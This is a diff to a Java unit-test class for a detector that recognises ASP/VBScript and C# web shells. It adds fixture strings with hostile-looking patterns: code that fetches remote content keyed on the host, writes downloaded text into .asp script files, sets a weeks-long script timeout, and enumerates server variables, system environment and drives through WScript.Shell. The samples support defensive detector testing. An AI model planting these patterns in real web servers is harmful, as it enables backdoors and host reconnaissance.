@@ -15,6 +15,8 @@ class PurposesTest extends PageTest {
           + "Client(); var s = c.Download"
           + "String(\"http://a.test/\"%s);";
 
+  private static final String TEXT = "<p>" + "What our page has to say. ".repeat(40) + "</p>";
+
   private static final String VARIABLE = REQ + ".ServerVariables[\"%s\"]";
   private static final String HOST = " + \"?host=\" + " + VARIABLE.formatted("HTTP_HOST");
   private static final String PATH = " + \"&page=\" + " + VARIABLE.formatted("SCRIPT_NAME");
@@ -27,9 +29,11 @@ class PurposesTest extends PageTest {
     String own = FETCH.formatted(HOST + PATH);
     assertThat(isShellInCsharp(browser + own + show)).isTrue();
     assertThat(isShellInCsharp(browser + "Log(told);")).isFalse();
-    assertThat(isShellInCsharp(names.formatted("name") + own + show)).isFalse();
+    String page = TEXT + "<%@ Page Language=\"C#\" %><% ";
+    assertThat(isShell(page + names.formatted("name") + own + show + " %>")).isFalse();
     String one = browser.replace("|bingbot", "");
-    assertThat(isShellInCsharp(one + own + show)).isFalse();
+    assertThat(isShell(page + one + own + show + " %>")).isFalse();
+    assertThat(isShell(page + browser + own + show + " %>")).isTrue();
     // A counter that leaves robots out, beside news from elsewhere.
     assertThat(isShellInCsharp(browser + FETCH.formatted("") + show)).isFalse();
   }
@@ -116,5 +120,74 @@ class PurposesTest extends PageTest {
     assertThat(isShellInBasic(fetch, open, call.formatted("asp"), copies)).isFalse();
     String named = "Store x.responseText, Replace(page, \".as" + "p\", \".html\")";
     assertThat(isShellInBasic(fetch, open, named, store)).isFalse();
+  }
+
+  private static final String GET =
+      "Function Page(a)\nSet x = Server.CreateObject(\"MSXML2.ServerXML"
+          + "HTTP\")\nx.Open \"GET\", a, False\nx.Send\nPage = x.responseText\nEnd Function";
+
+  private static final String OWN =
+      "here = \"http://\" & " + REQ + ".ServerVariables(\"HTTP_HOST\") & " + REQ + "%s";
+
+  @Test
+  void whatIsFetchedForTheOwnAddressIsAllThatIsShown() {
+    String own = OWN.formatted(".ServerVariables(\"SCRIPT_NAME\")");
+    String ask = "there = \"http://a.test/index.php\" & \"?host=\" & here";
+    String show = "Response.Write Page(there)";
+    assertThat(isShellInBasic(own, ask, show, GET)).isTrue();
+    // A licence is asked for by host; a short link is part of a page.
+    String host = OWN.formatted(".ServerVariables(\"SERVER_PORT\")");
+    assertThat(isShellInBasic(host, ask, show, GET)).isFalse();
+    String link = "Response.Write \"<a href='\" & Page(there) & \"'>link</a>\"";
+    assertThat(isShellInBasic(own, ask, link, GET)).isFalse();
+    String code = String.join("\n", own, ask, show, GET);
+    assertThat(isShell(TEXT + "<%\n" + code + "\n%>")).isFalse();
+    assertThat(isShellInBasic(own, ask, "Response.Write Page(\"http://a.test/\")", GET)).isFalse();
+  }
+
+  @Test
+  void whatIsFetchedForWeeksIsAllThatIsShown() {
+    String show = "Response.Write(Page(\"http://a.test/?\" & " + REQ + ".QueryString))";
+    String weeks = "Server.Script" + "Timeout = 88888%s";
+    assertThat(isShellInBasic(weeks.formatted("8"), show, GET)).isTrue();
+    assertThat(isShellInBasic("Server.Script" + "Timeout = 600", show, GET)).isFalse();
+    String backup = "text = Page(\"http://a.test/?\" & " + REQ + ".QueryString)";
+    assertThat(isShellInBasic(weeks.formatted("8"), backup, GET)).isFalse();
+  }
+
+  @Test
+  void whatIsFetchedIsWrittenIntoAScriptFileWhoseNameIsMade() {
+    String store =
+        "Sub Store(name, text)\nSet f = Server.CreateObject(\"Scripting.FileSystemObject\")\n"
+            + "Set t = f.CreateText"
+            + "File(name, True)\nt.Write text\nEnd Sub";
+    String call = "Store Server.MapPath(\"./\" & names(i) & \".%s\"), Page(\"http://a.test/\")";
+    assertThat(isShellInBasic(call.formatted("asp"), store, GET)).isTrue();
+    assertThat(isShellInBasic(call.formatted("html"), store, GET)).isFalse();
+  }
+
+  @Test
+  void severalListsOfTheHost() {
+    String variables = "For Each v In " + REQ + ".ServerVariables%s\nResponse.Write v\nNext\n";
+    String shell = "Set w = Server.CreateObject(\"WScript" + ".Shell\")\n";
+    String environment = "For Each e In w.Environment(\"System\")\nResponse.Write e\nNext\n";
+    assertThat(isShellInBasic(variables.formatted(""), shell, environment)).isTrue();
+    String one = variables.formatted("(\"HTTP_COOKIE\")");
+    assertThat(isShellInBasic(one, shell, environment)).isFalse();
+    assertThat(isShellInBasic(variables.formatted(""), shell)).isFalse();
+    String drives = "Set f = Server.CreateObject(\"Scripting.FileSystemObject\")\n";
+    String each = "For Each d In f.Drives\nResponse.Write d.DriveLetter\nNext";
+    assertThat(isShellInBasic(variables.formatted(""), drives, each)).isTrue();
+    assertThat(isShellInBasic(drives, each)).isFalse();
+    String names =
+        "foreach (var n in "
+            + REQ
+            + ".ServerVariables) { Response.Write(n); } "
+            + "foreach (var v in Environment.GetEnvironment"
+            + "Variables()) { Response.Write(v); }";
+    assertThat(isShellInCsharp(names)).isTrue();
+    assertThat(isShellInCsharp(names.substring(names.indexOf('}') + 1))).isFalse();
+    String product = "<%@ Page Language=\"C#\" Inherits=\"Panel.Health\" %><% " + names + " %>";
+    assertThat(isShell(product)).isFalse();
   }
 }
